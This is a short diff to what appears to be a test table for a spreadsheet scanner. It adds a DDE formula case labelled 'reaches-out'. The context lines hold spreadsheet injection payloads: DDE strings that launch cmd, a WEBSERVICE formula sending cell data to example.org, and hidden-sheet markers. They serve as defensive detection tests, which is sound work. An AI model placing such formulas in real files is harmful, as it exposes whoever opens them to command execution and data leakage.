@@ -116,6 +116,7 @@ RELATIONSHIP = (
         (SHEET, formula("cmd|'/c calc'!A0"), "dde"),
         (SHEET, formula("'cmd'|'/c calc'!A0"), "dde"),
         (SHEET, formula('WEBSERVICE("http://example.org/"&amp;A1)'), "reaches-out"),
+        (SHEET, formula('DDE("soffice","x.ods","A1")'), "reaches-out"),
         ("xl/workbook.xml", b"<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>", "dde"),
         ("xl/workbook.xml", b'<workbook><sheet name="Old" state="hidden"/></workbook>', "hidden-sheet"),
         ("xl/workbook.xml", b'<workbook><sheet name="Old" state="veryHidden"/></workbook>', "hidden-sheet"),
